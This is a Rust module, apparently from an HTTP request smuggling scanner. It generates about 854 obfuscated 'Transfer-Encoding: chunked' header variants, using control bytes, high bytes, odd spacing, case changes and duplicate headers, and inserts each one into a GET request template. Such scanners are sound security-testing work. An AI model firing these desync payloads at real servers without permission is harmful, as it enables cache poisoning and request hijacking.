//! The mutation catalog (spec §4.3): ~854 named framing-header variants, each
//! a gadget line expressing `Transfer-Encoding: chunked` in a form some HTTP
//! parsers accept and others reject.
//!
//! Gadgets are raw bytes, not `&str` — several inject bytes above 0x7F that
//! are not valid UTF-8 standing alone (`spaceFF`, `accentCH`, `accentTE`, and
//! the generated `0x7F..=0xFF` variants).

use crate::template::Payload;

const USER_AGENT: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.87 Safari/537.36";

/// Builds the per-mutation template: request line + gadget + Host + the rest
/// of a minimal GET, with Content-Length resolved at render time.
fn render_template(gadget: &[u8]) -> Payload {
    let mut header = Vec::new();
    header.extend_from_slice(b"__METHOD__ __ENDPOINT__?cb=__RANDOM__ HTTP/1.1\r\n");
    header.extend_from_slice(gadget);
    header.extend_from_slice(b"\r\n");
    header.extend_from_slice(b"Host: __HOST__\r\n");
    header.extend_from_slice(format!("User-Agent: {}\r\n", USER_AGENT).as_bytes());
    header.extend_from_slice(b"Content-type: application/x-www-form-urlencoded; charset=UTF-8\r\n");
    header.extend_from_slice(b"Content-Length: __REPLACE_CL__\r\n");

    Payload {
        header,
        body: Vec::new(),
        method: "GET".to_string(),
        endpoint: "/".to_string(),
        host: String::new(),
        cl: -1,
    }
}

fn gadget(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

const TE: &[u8] = b"Transfer-Encoding";
const CHUNKED: &[u8] = b"chunked";

/// Builds the full named-plus-generated mutation set. Order follows
/// generation order; callers must not depend on it (spec §9 Open Question).
pub fn build() -> Vec<(String, Payload)> {
    let mut out = Vec::with_capacity(28 + 31 * 10 + 129 * 4);

    let named: &[(&str, &[u8])] = &[
        ("nameprefix1", b" Transfer-Encoding: chunked"),
        ("tabprefix1", b"Transfer-Encoding:\tchunked"),
        ("tabprefix2", b"Transfer-Encoding\t:\tchunked"),
        ("spacejoin1", b"Transfer Encoding: chunked"),
        ("underjoin1", b"Transfer_Encoding: chunked"),
        ("smashed", b"Transfer Encoding:chunked"),
        ("space1", b"Transfer-Encoding : chunked"),
        ("valueprefix1", b"Transfer-Encoding:  chunked"),
        ("vertprefix1", b"Transfer-Encoding:\x0bchunked"),
        ("commaCow", b"Transfer-Encoding: chunked, cow"),
        ("cowComma", b"Transfer-Encoding: cow, chunked"),
        ("contentEnc", b"Content-Encoding: chunked"),
        ("linewrapped1", b"Transfer-Encoding:\n chunked"),
        ("quoted", b"Transfer-Encoding: \"chunked\""),
        ("aposed", b"Transfer-Encoding: 'chunked'"),
        ("lazygrep", b"Transfer-Encoding: chunk"),
        ("sarcasm", b"TrAnSFer-EnCODinG: cHuNkeD"),
        ("yelling", b"TRANSFER-ENCODING: CHUNKED"),
        ("0dsuffix", b"Transfer-Encoding: chunked\r"),
        ("tabsuffix", b"Transfer-Encoding: chunked\t"),
        (
            "revdualchunk",
            b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
        ),
        ("0dspam", b"Transfer\r-Encoding: chunked"),
        ("nested", b"Transfer-Encoding: cow chunked bar"),
        ("spaceFF", b"Transfer-Encoding:\xffchunked"),
        ("accentCH", b"Transfer-Encoding: ch\x96nked"),
        ("accentTE", b"Transf\x82r-Encoding: chunked"),
        ("x-rout", b"X:X\rTransfer-Encoding: chunked"),
        ("x-nout", b"X:X\nTransfer-Encoding: chunked"),
    ];
    for (name, g) in named {
        out.push((name.to_string(), render_template(g)));
    }

    for i in 0x01u8..=0x1f {
        let b = [i];

        out.push((
            format!("{:02x}-{:02x}-XX-XX", i, i),
            render_template(&gadget(&[&b, TE, &b, b": ", CHUNKED])),
        ));
        out.push((
            format!("{:02x}-XX-{:02x}-XX", i, i),
            render_template(&gadget(&[&b, TE, b":", &b, CHUNKED])),
        ));
        out.push((
            format!("{:02x}-XX-XX-{:02x}", i, i),
            render_template(&gadget(&[&b, TE, b": ", CHUNKED, &b])),
        ));
        out.push((
            format!("XX-{:02x}-{:02x}-XX", i, i),
            render_template(&gadget(&[TE, &b, b":", &b, CHUNKED])),
        ));
        out.push((
            format!("XX-{:02x}-XX-{:02x}", i, i),
            render_template(&gadget(&[TE, &b, b": ", CHUNKED, &b])),
        ));
        out.push((
            format!("XX-XX-{:02x}-{:02x}", i, i),
            render_template(&gadget(&[TE, b":", &b, CHUNKED, &b])),
        ));
        out.push((
            format!("midspace-{:02x}", i),
            render_template(&gadget(&[TE, b":", &b, CHUNKED])),
        ));
        out.push((
            format!("postspace-{:02x}", i),
            render_template(&gadget(&[TE, &b, b": ", CHUNKED])),
        ));
        out.push((
            format!("prespace-{:02x}", i),
            render_template(&gadget(&[&b, TE, b": ", CHUNKED])),
        ));
        out.push((
            format!("endspace-{:02x}", i),
            render_template(&gadget(&[TE, b": ", CHUNKED, &b])),
        ));
    }

    for i in 0x7fu16..=0xff {
        let byte = i as u8;
        let b = [byte];

        out.push((
            format!("midspace-{:02x}", i),
            render_template(&gadget(&[TE, b":", &b, CHUNKED])),
        ));
        out.push((
            format!("postspace-{:02x}", i),
            render_template(&gadget(&[TE, &b, b": ", CHUNKED])),
        ));
        out.push((
            format!("prespace-{:02x}", i),
            render_template(&gadget(&[&b, TE, b": ", CHUNKED])),
        ));
        out.push((
            format!("endspace-{:02x}", i),
            render_template(&gadget(&[TE, b": ", CHUNKED, &b])),
        ));
    }

    out
}
